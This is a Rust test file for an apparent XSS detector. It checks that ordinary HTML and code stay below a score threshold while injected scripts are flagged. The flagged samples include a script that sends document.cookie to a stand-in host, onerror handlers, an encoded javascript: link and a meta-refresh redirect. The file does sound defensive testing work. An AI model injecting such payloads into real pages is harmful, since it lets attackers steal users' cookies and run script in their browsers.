//! Texts written to be read, and the attacks that look like them.

use super::*;

/// Values as an application gets them in a document.
fn of_document(value: &str) -> Vec<Hit> {
    let body = format!("{{\"v\":{}}}", serde_json::to_string(value).unwrap());
    hits(&Request {
        method: b"POST",
        target: b"/api/pages",
        content_type: b"application/json",
        body: body.as_bytes(),
        ..Request::default()
    })
}

fn loud(value: &str) -> Vec<Hit> {
    let mut hits = of_value(value);
    hits.extend(of_document(value));
    hits.retain(|hit| hit.score >= THRESHOLD);
    hits
}

fn silent(values: &[&str]) {
    for value in values {
        assert!(loud(value).is_empty(), "{value:?}: {:?}", loud(value));
    }
}

fn told(kind: Kind, values: &[&str]) {
    for value in values {
        assert!(loud(value).iter().any(|hit| hit.kind == kind), "{value:?}: {:?}", loud(value));
    }
}

#[test]
fn pages_that_editors_save_stay_quiet() {
    silent(&[
        "<p>See <a href=\"../../../../guide/index.html\">the guide</a></p><ul><li>one</li></ul>",
        "<table><tbody><tr><td>select</td><td>from</td></tr><tr><td>where 1=1</td></tr></tbody></table>",
        "<p>Watch</p><p><iframe width=\"560\" height=\"315\" src=\"https://video.example/embed/a\"></iframe></p>",
        "<div><link rel=\"stylesheet\" href=\"/a.css\"><p>x</p></div><form><input name=\"q\"></form>",
        "<h2>XSS</h2><p>Never write <code>&lt;script&gt;alert(1)&lt;/script&gt;</code></p>",
        "</div></details></section></div></main></body></html>",
    ]);
}

#[test]
fn what_runs_in_a_page_is_told() {
    told(
        Kind::Xss,
        &[
            "<p>a</p><p>b</p><script>fetch('//h.example/'+document.cookie)</script>",
            "<ul><li>a</li><li><img src=x onerror=alert(1)></li></ul>",
            "<p>a</p><p><a href=\"java&#x73;cript:alert(1)\">b</a></p>",
            "<p>a</p><p>b</p><iframe srcdoc=\"x\"></iframe>",
            "<div><p>a</p><meta http-equiv=\"refresh\" content=\"0;url=//h.example\"></div>",
        ],
    );
}

#[test]
fn lines_of_a_program_stay_quiet() {
    silent(&[
        "import { reverse } from './patch/reverse.js';",
        "const onError = (err) => {\n  if (err) {\n    log('a', err);\n  }\n}",
        "out.write(buffer.slice(0, read));",
        "if (a) {\n  return `+${l.slice(1)}`;\n}\nreturn l;",
        "what is the <script> tag in html",
        "window.location.href redirect",
    ]);
    told(
        Kind::Xss,
        &[
            "<script>alert(1)",
            "x' onerror=alert(1) y='",
            "document.write('<b>')",
            "document.cookie",
        ],
    );
}
